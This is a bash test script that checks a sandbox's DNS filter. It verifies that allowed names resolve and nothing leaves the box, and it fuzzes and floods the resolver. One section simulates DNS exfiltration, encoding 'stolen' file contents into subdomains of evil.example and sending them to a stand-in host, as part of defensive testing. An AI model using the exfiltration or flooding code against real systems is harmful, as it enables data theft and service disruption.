#!/bin/bash
# The DNS of a box: addresses for names that are allowed, nothing for any other, whatever is asked for, whoever is asked and over what; no
# packet leaves for a name that is not allowed, nor for one that is before something connects to it.
. "$(dirname "$0")/lib.sh"

ask --allow api.example.com --allow '*.wild.example' -- <<'END'
for kind in TYPES:
    say(kind, resolve("api.example.com", kind))
    say("not " + kind, resolve("other.example.com", kind))
first = resolve("api.example.com")
for server in ["8.8.8.8", "1.1.1.1", "192.0.2.53", "10.1.2.3", "203.0.113.5"]:
    say(server, resolve("api.example.com", server=server) == first)
    say("not " + server, resolve("other.example.com", server=server))
say("tcp", resolve("api.example.com", over="tcp") == first)
say("tcp elsewhere", resolve("api.example.com", over="tcp", server="8.8.8.8") == first)
say("not tcp", resolve("other.example.com", over="tcp"))
# two questions on one connection
with socket.create_connection((RESOLVER, 53), timeout=3) as s, s.makefile("rb") as stream:
    for name in ["api.example.com", "a.wild.example"]:
        packet = query(name)
        s.sendall(struct.pack("!H", len(packet)) + packet)
        size = struct.unpack("!H", stream.read(2))[0]
        say("stream " + name, read_answer(stream.read(size)))
say("getaddrinfo", len(socket.getaddrinfo("api.example.com", 443, type=socket.SOCK_STREAM)))
try:
    say("reverse", socket.gethostbyaddr("192.0.2.10"))
except socket.herror as e:
    say("reverse", e.args[1])
END
says A '^ok 198\.1[89]\.[0-9.]+$' "A: an address of the pool"
for kind in AAAA MX TXT NS SOA CNAME SRV SVCB HTTPS PTR ANY; do say_is $kind ok "$kind of an allowed name: there is none"; done
for kind in A AAAA MX TXT HTTPS ANY; do says "not $kind" '^(nxdomain|refused)$' "$kind of another name: no such name"; done
for server in 8.8.8.8 1.1.1.1 192.0.2.53 10.1.2.3 203.0.113.5; do
	say_is $server True "asking $server is asking the wall"
	says "not $server" '^(nxdomain|refused)$' "and no help for another name"
done
say_is tcp True "over TCP"
say_is "tcp elsewhere" True "over TCP, whoever is asked"
says "not tcp" '^(nxdomain|refused)$' "with no more than over UDP"
says "stream api.example.com" '^ok 198' "two questions on one connection"
says "stream a.wild.example" '^ok 198' "each with its answer"
say_is getaddrinfo 1 "the C library finds one address"
say_is "reverse" "Unknown host" "nor the name of an address"
is "$(seen dns name)" 0 "not one question left the box"
is "$(seen wire udp)$(seen wire tcp)" 00 "nor any other packet"
expect "the refused name is told with what would allow it" 'denials=~dns other.example.com.*--allow other.example.com'

# ---- carrying data out in names ----
ask --allow api.example.com -- <<'END'
import binascii
stolen = binascii.hexlify(b"the contents of a file" * 2).decode()
for i in range(0, len(stolen), 40):
    resolve(f"{stolen[i:i + 40]}.evil.example")
    resolve(f"{stolen[i:i + 40]}.api.example.com")
    resolve(f"{stolen[i:i + 40]}.evil.example", "TXT", server="203.0.113.53", over="tcp")
    resolve(f"{stolen[i:i + 40]}.evil.example", "TXT", server="203.0.113.53")
    tried(socket.getaddrinfo, f"{stolen[i:i + 40]}.evil.example", 80)
for port in [53, 123, 443, 5353, 4433]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.2)
        say(f"udp {port}", tried(lambda: (s.connect(("203.0.113.53", port)), s.send(stolen.encode()), s.recv(10))))
END
is "$(seen dns name)$(seen wire udp)$(seen wire tcp)" 000 "nothing of it left: no question, no packet"
for port in 123 443 5353 4433; do say_is "udp $port" ECONNREFUSED "nor over UDP to port $port, where it is refused at once"; done
ask --allow api.example.com -- <<'END'
say("reached", https("api.example.com", "/x").splitlines()[-1])
END
say_is reached "ok GET /x" "control: a connection to an allowed name"
isnt "$(asked api.example.com)" 0 "control: for which the real servers are asked"
is "$(grep -vc '"api.example.com"' "$NET/dns.log")" 0 "for that name, and no other"
is "$(seen wire udp '"to": "192.0.2.53"' '"port": 53}') $(seen wire tcp '"to": "192.0.2.10"' '"port": 443}') $(seen wire tcp)" "1 1 1" "control: and the capture sees the packets of both"

# ---- what is no question ----
ask --allow api.example.com -- <<'END'
import os
def packet(data, over=ask_udp):
    answer = tried(over, data, timeout=0.3)
    return answer if isinstance(answer, str) else read_answer(answer) if len(answer) > 11 else "closed"
good = query("api.example.com")
say("empty", packet(b""))
say("short", packet(good[:11]))
say("cut", packet(good[:20]))
say("response", packet(query("api.example.com", flags=0x8180)))
say("none", packet(query("api.example.com", count=0)))
say("two", packet(query("api.example.com", count=2) + query("evil.example")[12:]))
say("update", packet(query("api.example.com", flags=0x2800)))
say("chaos", packet(query("api.example.com", klass=3)))
say("pointer", packet(good[:12] + b"\xc0\x0c" + b"\0\1\0\1"))
say("long label", packet(good[:12] + b"\x7f" + b"x" * 127 + b"\0\0\1\0\1"))
for _ in range(100):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(os.urandom(64), (RESOLVER, 53))
    with socket.create_connection((RESOLVER, 53), timeout=2) as s:
        tried(s.sendall, os.urandom(32))
time.sleep(0.5)
say("edns", packet(good[:10] + b"\0\1" + good[12:] + b"\0\0\x29\x10\0\0\0\0\0\0\0"))
say("after", packet(good))
END
for what in empty short response; do says "$what" '^(timeout|formerr)$' "$what: no answer"; done
for what in cut none two update chaos pointer "long label"; do says "$what" '^(timeout|formerr|notimp|refused|nxdomain|servfail)$' "$what: no address"; done
says edns '^ok 198' "EDNS is understood"
says after '^ok 198' "and it still answers"

# ---- what is told ----
ask --allow '*.wild.example' -- <<'END'
say("text", resolve("only.wild.example", "TXT"))
say("nul", read_answer(ask_udp(query("api.example.com").replace(b"api", b"a\0i"))))
END
says text '^ok$' "a name of which no address is wanted"
expect "is told as well" 'network=~only.wild.example'
say_is nul nxdomain "what is no name does not exist"
expect "and is told" 'network=~is no name'

# ---- as many as one likes ----
ask --allow '*.wild.example' -- <<'END'
import threading
REFUSED = CODES.index("refused")
def burst(n, got):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((RESOLVER, 53))
        s.settimeout(0.5)
        def read():
            try:
                while True:
                    got.append(s.recv(512)[3] & 15)
            except OSError:
                pass
        reader = threading.Thread(target=read)
        reader.start()
        for i in range(n):
            tried(s.send, query(f"x{i}.wild.example"))
            if i % 20 == 19:
                time.sleep(0.0005)
        reader.join()
        return got.count(0)
def stream(n):
    packet, good = query("x.wild.example"), 0
    with socket.create_connection((RESOLVER, 53), timeout=5) as s, s.makefile("rb") as answers:
        for i in range(n):
            if i % 50 == 0:  # who does not read its answers is let go
                s.sendall((struct.pack("!H", len(packet)) + packet) * 50)
            good += answers.read(struct.unpack("!H", answers.read(2))[0])[3] & 15 == 0
    return good
say("few", burst(50, []))
say("few, tcp", stream(100))
codes, begin = [], time.monotonic()
flood = threading.Thread(target=lambda: say("many", burst(30000, codes)))
flood.start()
while flood.is_alive() and REFUSED not in codes:
    time.sleep(0.01)
say("meanwhile", stream(100))
say("still", flood.is_alive())
flood.join()
say("within", 1000 <= codes.count(0) <= 4100 + 2000 * (time.monotonic() - begin) and REFUSED in codes)
say("refused", codes.count(REFUSED))
time.sleep(1)
say("later", resolve("later.wild.example"))
END
say_is few 50 "fifty questions at once are answered"
say_is within True "thirty thousand are too many: $(said many)"
is "$(said "few, tcp") $(said still)" "100 True" "control: and a hundred over TCP"
got=$(said meanwhile)
if [ "${got:-100}" -lt 50 ]; then pass "those over TCP count with those over UDP ($got of 100)"; else fail "those over TCP count with those over UDP" "$got of 100"; fi
says later '^ok 198' "a second later it answers again"
lost=$(field network_lost)
if [ "${lost:-0}" -ge "$(said refused)" ] && [ "$(said refused)" -gt 0 ]; then pass "what was refused is counted ($lost, of which $(said refused) answers came)"; else fail "what was refused is counted" "$lost of $(said refused)"; fi
done_testing
